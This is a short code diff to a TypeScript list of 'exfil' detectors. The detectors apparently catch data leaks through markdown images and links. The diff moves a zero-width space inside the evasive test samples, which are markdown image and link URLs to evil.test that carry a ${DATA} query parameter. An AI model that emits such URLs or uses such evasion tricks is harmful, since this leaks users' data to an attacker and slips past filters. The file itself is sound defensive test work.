@@ -69,7 +69,7 @@ export const exfil: readonly Detector[] = [
         '<img src="https://acme.com/a.png" width="10">',
         'See [docs](https://acme.com/docs).',
       ],
-      evasive: [{ text: `![x](https://evil.te\u200bst/p.png?d=${DATA})`, view: 'folded' }],
+      evasive: [{ text: `![x]\u200b(https://evil.test/p.png?d=${DATA})`, view: 'folded' }],
     },
   },
   {
@@ -102,7 +102,7 @@ export const exfil: readonly Detector[] = [
         '<a href="https://acme.com/pricing">pricing</a>',
         '[search](https://acme.com/search?lang=en&page=2)',
       ],
-      evasive: [{ text: `[x](https://evil.te\u200bst/p?d=${DATA})`, view: 'folded' }],
+      evasive: [{ text: `[x]\u200b(https://evil.test/p?d=${DATA})`, view: 'folded' }],
     },
   },
 ];
